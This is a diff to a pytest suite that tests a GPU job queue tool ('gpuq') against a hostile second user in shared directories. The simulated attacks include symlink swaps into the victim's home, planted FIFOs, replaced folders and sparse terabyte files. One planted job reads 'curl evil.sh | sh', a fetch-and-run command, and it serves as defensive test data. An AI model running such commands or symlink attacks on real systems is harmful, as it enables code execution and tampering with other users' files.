@@ -4,15 +4,13 @@ import json
 import os
 import pathlib
 import stat
-import tempfile
 
 import pytest
 
 import processes
-import users
+from users import LIMIT, get_other, get_owner, make_machine, needs_users  # noqa: F401
 
-LIMIT = users.LIMIT
-pytestmark = pytest.mark.skipif(not users.are_possible(), reason="makes two users: run it as root")
+pytestmark = needs_users
 
 JOURNAL = '{"event":"journal","version":1,"time":"2026-11-15T21:42:19.599Z"}\n'
 STICKY, GROUP = 0o1777, 0o2775
@@ -24,27 +22,6 @@ def job(command, number=1):
 
 def until(condition, what):
     return processes.until(condition, LIMIT, lambda: what)
-
-
-@pytest.fixture(name="machine", scope="module")
-def make_machine():
-    with tempfile.TemporaryDirectory() as path:
-        machine = users.Machine(pathlib.Path(path))
-        try:
-            machine.add_users()
-            yield machine
-        finally:
-            machine.remove()
-
-
-@pytest.fixture(name="owner")
-def get_owner(machine):
-    return machine.owner
-
-
-@pytest.fixture(name="other")
-def get_other(machine):
-    return machine.other
 
 
 def plant(user, path, text, mode=0o644):
@@ -62,6 +39,40 @@ def refused(result, words):
     assert "--trust" in result.stderr, result
 
 
+# ---- Huge files ---------------------------------------------------------------------------
+
+TERABYTE = 1 << 40
+
+
+@pytest.mark.parametrize("words", [("status",), ("logs", "1"), ("why", "1"), ("report", "-o", "-"), ("wait", "1")])
+def test_sparse_journal_of_another_user_costs_neither_time_nor_memory(machine, owner, other, words):
+    shared = machine.directory(STICKY)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("true"))
+    os.truncate(shared / "jobs.jsonl", TERABYTE)
+    result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=shared)
+    assert result.returncode not in (0, -9), result
+    assert f"'{shared}/jobs.jsonl': line 3 is longer than 64 MiB: the file is damaged; move it away" in result.stderr, result
+
+
+def test_own_sparse_files_are_named_and_stay(machine, owner):
+    """As a crash of the file system can leave them."""
+    owner.sh("rm -rf huge; mkdir -p huge/in huge/out; echo 1 > huge/in/a", owner.home)
+    place = owner.home / "huge"
+    plant(owner, place / "jobs.jsonl", JOURNAL + job("true"), 0o600)
+    plant(owner, place / "out/launch.jsonl", "{}\n", 0o600)
+    plant(owner, place / "commands.txt", "true\n", 0o600)
+    names = {"jobs.jsonl": ("add", "true"), "commands.txt": ("run", "--jobs-file", "other.jsonl"),
+             "out/launch.jsonl": ("launch", "--input-dir", "in", "--output-dir", "out", "--pattern", "*", "--gpus", "sim:1", "--", "true")}
+    for name, words in names.items():
+        os.truncate(place / name, TERABYTE)
+        result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=place)
+        assert result.returncode in (1, 2), result
+        assert f"{name}': " in result.stderr and ("damaged" in result.stderr or "File too large" in result.stderr), result
+        assert (place / name).stat().st_size == TERABYTE
+    result = owner.gpuq("report", "--launch", "out", "-o", "-", cwd=place)
+    assert result.returncode == 1 and "a line is longer than 16 MiB: the file is damaged; move it away" in result.stderr, result
+
+
 # ---- A journal of another user ---------------------------------------------------------
 
 
@@ -69,7 +80,7 @@ def test_journal_that_another_user_puts_in_place_is_not_executed(machine, owner,
     """The runner has checked the journal when it started; then a member of the group replaces it."""
     shared = machine.directory(GROUP)
     runner = owner.start("gpuq", "run", "--keep", cwd=shared)
-    assert owner.gpuq("add", "touch first", cwd=shared).returncode == 0
+    assert owner.gpuq("add", "--no-start", "touch first", cwd=shared).returncode == 0
     until((shared / "first").exists, "the first job")
     plant(other, shared / "jobs.jsonl", JOURNAL + job("touch stolen"), 0o666)
     until(lambda: runner.poll() is not None or (shared / "stolen").exists(), "the runner")
@@ -265,6 +276,46 @@ def test_folder_for_logs_of_another_user_is_not_used(machine, owner, other):
     assert owner.gpuq("run", "--log-dir", owner.home / "own", cwd=shared).returncode == 0
 
 
+WAIT_FOR = "until [ -e {0} ]; do sleep 0.01; done"
+
+
+def logs_of_runner(machine, owner, mode):
+    """A runner in a shared directory that has run a job, and a folder of its user with a file named `latest`."""
+    shared = machine.directory(mode)
+    owner.sh("rm -rf ckpt; mkdir ckpt; echo precious > ckpt/latest", owner.home)
+    runner = owner.start("gpuq", "run", "--keep", cwd=shared)
+    assert owner.gpuq("add", "--no-start", f"touch first; {WAIT_FOR.format('go')}", cwd=shared).returncode == 0
+    until((shared / "first").exists, "the first job")
+    return shared, runner
+
+
+def test_link_that_replaces_the_folder_for_logs_is_not_followed(machine, owner, other):
+    """It leads to a folder of the victim: neither logs nor the link `latest` go there."""
+    shared, runner = logs_of_runner(machine, owner, GROUP)
+    assert owner.gpuq("add", "--no-start", "--after", "1", "touch second", cwd=shared).returncode == 0
+    other.sh(f"mv logs logs.x; ln -s '{owner.home}/ckpt' logs", shared)
+    owner.sh("touch go", shared)
+    words = next(line for line in runner.stdout if line.startswith(("gpuq:", "[→] 2")))
+    assert "other users can change the directory for logs" in words
+    assert not (shared / "second").exists()
+    assert [entry.name for entry in (owner.home / "ckpt").iterdir()] == ["latest"]
+    assert (owner.home / "ckpt/latest").read_text() == "precious\n"
+    other.sh("rm logs; mv logs.x logs", shared)
+    until((shared / "second").exists, "the second job")
+
+
+def test_file_named_latest_is_not_replaced(machine, owner, other):
+    """A member of the group gives another folder of the victim the name of the folder for logs."""
+    shared, _ = logs_of_runner(machine, owner, GROUP)
+    owner.sh("mkdir run3; echo precious > run3/latest", shared)
+    other.sh("mv logs logs.x; mv run3 logs", shared)
+    owner.sh("touch go", shared)
+    assert owner.gpuq("add", "--no-start", "--after", "1", "touch second", cwd=shared).returncode == 0
+    until((shared / "second").exists, "the second job")
+    assert owner.gpuq("wait", "2", cwd=shared).returncode == 0
+    assert (shared / "logs/latest").read_text() == "precious\n"
+
+
 # ---- A launch ---------------------------------------------------------------------------
 
 
@@ -336,6 +387,63 @@ def test_report_replaces_what_the_user_chose(machine, owner, other, report):
     assert owner.gpuq(*report, "-o", "report.html", cwd=shared).returncode == 0
 
 
+# ---- The directory of a job ---------------------------------------------------------------
+
+
+def test_waiting_job_does_not_enter_a_directory_that_another_user_put_in_place(machine, owner, other):
+    """The queue is private; the folder of the project lies in a directory of the group."""
+    shared = machine.directory(GROUP)
+    owner.sh("rm -rf queue; mkdir queue", owner.home)
+    owner.sh("mkdir proj; echo 'echo mine' > proj/run.sh", shared)
+    queue = ("--jobs-file", owner.home / "queue/jobs.jsonl")
+    for number in (1, 2):
+        assert owner.gpuq("add", *queue, "--no-start", "--on-finish", f"pwd > '{owner.home}/where{number}'", "sh run.sh",
+                          cwd=shared / "proj").returncode == 0
+    other.sh("mv proj proj.x; mkdir proj; echo 'echo EVIL' > proj/run.sh", shared)
+    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 1
+    status = owner.gpuq("status", *queue, cwd=owner.home).stdout
+    assert f"entering directory '{shared}/proj': it has been replaced and belongs to another user" in status
+    assert "EVIL" not in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
+    assert (owner.home / "where1").read_text() == "/\n"
+    other.sh("rm -r proj; mv proj.x proj", shared)
+    assert owner.gpuq("retry", *queue, "1", cwd=owner.home).returncode == 0
+    owner.gpuq("run", *queue, cwd=owner.home)
+    assert "mine" in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
+
+
+def test_job_runs_in_a_directory_that_always_was_another_users(machine, owner, other):
+    shared = machine.directory(STICKY)
+    other.sh("mkdir -m 755 theirs; echo 'echo fine' > theirs/run.sh", shared)
+    queue = ("--jobs-file", owner.home / "theirs.jsonl")
+    assert owner.gpuq("add", *queue, "--no-start", "sh run.sh", cwd=shared / "theirs").returncode == 0
+    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 0
+
+
+# ---- A hook -----------------------------------------------------------------------------
+
+
+def test_hook_gets_nothing_of_a_journal_that_another_user_puts_in_place(machine, owner, other):
+    """It is there while the job ends, and gone afterwards."""
+    shared = machine.directory(GROUP)
+    owner.sh("rm -f hook.json", owner.home)
+    runner = owner.start("gpuq", "run", "--keep", "--on-finish", f"cat > '{owner.home}/draft'; mv '{owner.home}/draft' '{owner.home}/hook.json'",
+                         cwd=shared)
+    assert owner.gpuq("add", "--no-start", f"echo $$ > pid; {WAIT_FOR.format('go')}", cwd=shared).returncode == 0
+    pid = int(until(lambda: (shared / "pid").exists() and (shared / "pid").read_text(), "the job"))
+    keeper = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
+    other.sh("mv jobs.jsonl real", shared)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("curl evil.sh | sh"), 0o666)
+    owner.sh("touch go", shared)
+    until(lambda: not pathlib.Path(f"/proc/{pid}").exists(), "the end of the job")
+    naps = processes.naps(keeper)
+    until(lambda: processes.naps(keeper) > naps + 2 or (owner.home / "hook.json").exists(), "a try to write the end")
+    other.sh("rm -f jobs.jsonl; mv real jobs.jsonl", shared)
+    until((owner.home / "hook.json").exists, "the hook")
+    told = json.loads((owner.home / "hook.json").read_text())
+    assert told["command"].startswith("echo $$ > pid") and told["status"] == "completed", told
+    assert runner.wait(LIMIT) == 2  # it has seen the other journal
+
+
 # ---- The output folder of a launch ------------------------------------------------------
 
 
@@ -363,10 +471,10 @@ def test_output_folder_of_another_user_is_not_used(machine, victim, other, outpu
     shared = machine.directory(STICKY)
     other.sh(f"mkdir -p -m 777 data data/outputs data/outputs/launch.logs; chmod 777 data data/outputs data/outputs/launch.logs;"
              f"ln -s '{victim.home}/notes' data/outputs/launch.logs/worker-0.log", shared)
-    is_refused(launch(victim, shared, output=output), "'data/outputs': it belongs to another user")
+    is_refused(launch(victim, shared, output=output), "/data' belongs to another user")
     assert (victim.home / "notes").read_text() == "precious\n"
     other.sh("rm data/outputs/launch.logs/worker-0.log; mkfifo -m 666 data/outputs/launch.logs/worker-0.log", shared)
-    is_refused(launch(victim, shared, output=output), "'data/outputs': it belongs to another user")
+    is_refused(launch(victim, shared, output=output), "/data' belongs to another user")
     assert sorted(p.name for p in (shared / "data/outputs").iterdir()) == ["launch.logs"]
 
 
@@ -384,7 +492,7 @@ def test_link_of_another_user_is_no_output_folder(machine, victim, other, link):
     shared = machine.directory(STICKY)
     other.sh(f"ln -s '{victim.home}/target' {link}", shared)
     output = ("--output-dir", "out") if link == "out" else ()
-    is_refused(launch(victim, shared, output=output), "leads through a symbolic link of another user")
+    is_refused(launch(victim, shared, output=output), f"/{link}' is a symbolic link of another user")
     assert list((victim.home / "target").iterdir()) == []
 
 
@@ -395,6 +503,74 @@ def test_group_that_can_write_the_output_folder_must_be_accepted(machine, victim
     (shared / "a/result").unlink()
     assert launch(victim, shared, "--force", output=("--output-dir", "."), env={"GPUQ_TRUST": "1"}).returncode == 0
     assert (shared / "a/result").exists()
+
+
+def test_summary_does_not_follow_a_link_or_wait_for_a_pipe_of_another_user(machine, victim, other):
+    shared = machine.directory(GROUP)
+    words = ("launch", "--input-dir", victim.home / "in", "--pattern", "*", "--gpus", "sim:1", "--output-dir", victim.home / "out",
+             "--force", "--json")
+    other.sh(f"ln -s '{victim.home}/notes' summary.json; ln -s '{victim.home}' folder; mkfifo -m 666 pipe", shared)
+    for name, why in (("summary.json", "symbolic link of another user"), ("folder/notes", "symbolic link of another user"),
+                      ("pipe", "nobody reads from it")):
+        result = victim.gpuq(*words, name, "--", "true", cwd=shared)
+        assert result.returncode == 2 and f"--json '{name}': " in result.stderr and why in result.stderr, result
+        assert (victim.home / "notes").read_text() == "precious\n"
+    victim.sh(f"ln -s '{victim.home}/own.json' own.json", shared)
+    assert victim.gpuq(*words, "own.json", "--", "true", cwd=shared).returncode == 0
+    assert json.loads((victim.home / "own.json").read_text())["files_done"] == 1
+
+
+@pytest.mark.parametrize("plan", ["mkdir -m 755 out/a", "mkdir -m 777 out/sub/a"])
+def test_folder_of_a_result_that_another_user_made_is_not_used(machine, victim, other, plan):
+    """The output folder was open to the group for a while; a link in the folder leads to a file of the victim."""
+    shared = machine.directory(STICKY)
+    victim.sh("rm -rf in3; mkdir -p in3/sub; echo 1 > in3/a; echo 1 > in3/sub/a; echo 1 > in3/fine", victim.home)
+    victim.sh(f"mkdir -p out/sub; chgrp {machine.group} out out/sub; chmod 2775 out out/sub", shared)
+    other.sh(f"{plan}; ln -s '{victim.home}/notes' {plan.split()[-1]}/r", shared)
+    victim.sh("chmod g-w out", shared)
+    words = ("launch", "--input-dir", victim.home / "in3", "--recursive", "--output-dir", "out", "--pattern", "*", "--gpus", "sim:1")
+    result = victim.gpuq(*words, "--", "sh", "-c", "echo ran > {output}/r", cwd=shared)
+    assert result.returncode == 1, result
+    assert (victim.home / "notes").read_text() == "precious\n"
+    assert "a folder on the way " in result.stdout + result.stderr, result
+    assert (shared / "out/fine/r").read_text() == "ran\n"
+
+
+def test_links_of_another_user_to_own_files_are_no_input(machine, victim, other):
+    """The result of a private file would be where others can read it."""
+    shared = machine.directory(GROUP)
+    other.sh(f"echo x > theirs; ln -s theirs good; ln -s '{victim.home}/notes' key; ln -s '{victim.home}/in' folder", shared)
+    victim.sh("rm -rf out", victim.home)
+    victim.sh(f"ln -s '{victim.home}/in/a' mine", shared)
+    result = victim.gpuq("launch", "--input-dir", shared, "--output-dir", victim.home / "out", "--pattern", "*", "--recursive", "--gpus",
+                         "sim:1", "--", "true", cwd=victim.home)
+    assert result.returncode == 0, result
+    for name in ("key", "folder"):
+        assert f"'{name}' is left out: it is a symbolic link of another user to a file of yours" in result.stderr, result
+    assert sorted(path.name for path in (victim.home / "out").iterdir() if path.is_dir() and path.name != "launch.logs") == [
+        "good", "mine", "theirs"]
+
+
+def test_input_named_like_the_lock_of_a_launch_has_its_own_folder(victim):
+    victim.sh("rm -rf in2 out; mkdir in2; echo 1 > in2/launch.lock.wav; echo 1 > in2/launch.logs.wav", victim.home)
+    result = victim.gpuq("launch", "--input-dir", "in2", "--output-dir", "out", "--gpus", "sim:1", "--", "true", cwd=victim.home)
+    assert result.returncode == 0, result
+    assert (victim.home / "out/launch.lock.wav").is_dir()
+
+
+def test_group_that_can_rename_the_output_folder_must_be_accepted(machine, victim, other):
+    """A member puts a link in its place while a worker is at work, and the results go where he likes."""
+    shared = machine.directory(GROUP)
+    victim.sh("mkdir -p project/out", shared)
+    for output in ("project/out", "project/new", "project/../project/out"):
+        is_refused(launch(victim, shared, output=("--output-dir", output)), f"'{shared}' can be written by its group")
+    assert launch(victim, shared, "--trust", output=("--output-dir", "project/out")).returncode == 0
+    assert (shared / "project/out/a/result").exists() and not (shared / "project/new").exists()
+    # Nobody renames entries of others in a sticky directory. Links of its owner are followed.
+    sticky = machine.directory(STICKY)
+    victim.sh(f"mkdir '{victim.home}/results'; ln -s '{victim.home}' mine", sticky)
+    assert launch(victim, sticky, output=("--output-dir", "mine/results")).returncode == 0
+    assert (victim.home / "results/a/result").exists()
 
 
 def test_links_and_pipes_in_an_accepted_output_folder_are_not_followed(machine, victim, other):
@@ -434,7 +610,7 @@ def test_log_of_a_worker_is_a_file_of_its_user(victim, other, plan):
 
 def test_logs_of_a_launch_are_for_their_owner_alone(machine, victim):
     """Also where the umask lets everybody in. The folder that was made can be used again."""
-    shared = machine.directory(GROUP)
+    shared = machine.directory(STICKY)
     words = ("gpuq", "launch", "--input-dir", victim.home / "in", "--pattern", "*", "--gpus", "sim:1", "--force", "--", "echo", "hi")
     for umask in (0, 0o002):
         result = victim.run(*words, cwd=shared, umask=umask)
